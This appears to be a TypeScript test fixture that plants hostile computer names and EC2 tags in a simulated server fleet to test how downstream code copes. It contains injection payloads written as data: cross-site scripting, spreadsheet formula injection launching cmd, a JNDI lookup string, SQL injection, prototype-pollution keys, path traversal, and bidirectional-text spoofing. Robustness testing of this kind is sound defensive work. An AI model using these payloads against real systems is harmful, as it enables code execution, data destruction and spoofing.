import { withTags } from './tags';
import { SimulatedNode } from './types';

const LONG = 'x'.repeat(256);

interface HostileNode {
  computerName?: string;
  /** Tags an EC2 instance may carry; SSM restricts the characters of its own. */
  tags?: ReadonlyArray<readonly [string, string]>;
}

/**
 * What a fleet may hold that harms whoever trusts it. All are EC2 instances,
 * whose tags may contain any character.
 */
export const HOSTILE_NODES: readonly HostileNode[] = [
  {
    computerName: '<script>alert(1)</script>',
    tags: [['Name', '<img src=x onerror=alert(1)>']],
  },
  {
    computerName: "=cmd|'/C calc'!A0",
    tags: [
      ['Name', "=cmd|'/C calc'!A0"],
      ['CostCenter', '@SUM(1+1)*cmd'],
    ],
  },
  {
    computerName: 'line\nbreak\r\nhost',
    tags: [
      ['Name', 'first line\nsecond line'],
      ['Note', '"quoted", with, commas;\nand a line break'],
    ],
  },
  {
    computerName: 'zahlung-münchen-数据库-🚀',
    tags: [['Name', 'Zahlung München 数据库 🚀🧑🏽‍🚀']],
  },
  {
    computerName: '\u202Egnp.tnemyap\u202C',
    tags: [['Name', 'أجهزة الدفع \u202Eevil\u202C']],
  },
  {
    computerName: 'x'.repeat(255),
    tags: [
      ['Name', LONG],
      ['k'.repeat(128), LONG],
    ],
  },
  {
    computerName: 'bell\u0007-esc\u001b[31m-nul\u0000',
    tags: [['Name', 'control\u0007codes\u001b[0m']],
  },
  {
    computerName: '{{ tags.Owner }}',
    tags: [
      ['Name', '${jndi:ldap://example.com/a}'],
      ['Application', '{{ tags.Owner }}/../../system:default/payments'],
    ],
  },
  {
    computerName: "'; DROP TABLE nodes; --",
    tags: [
      ['Name', "%' OR '1'='1"],
      ['__proto__', 'polluted'],
      ['constructor', 'x'],
    ],
  },
  {
    computerName: ' \t ',
    tags: [
      ['Name', '   '],
      [' ', 'its key is a space'],
    ],
  },
];

/** Which of them the node at this position is, if any: one in eleven at first. */
export function hostileAt(index: number): HostileNode | undefined {
  return index % 11 === 5 ? HOSTILE_NODES[(index - 5) / 11] : undefined;
}

/** Makes a node hostile. It keeps its owner, so that somebody sees it. */
export function applyHostile(node: SimulatedNode, hostile: HostileNode): void {
  node.computerName = hostile.computerName ?? node.computerName;
  node.tags = withTags(node.tags, hostile.tags ?? []);
  node.everTagged = true;
}
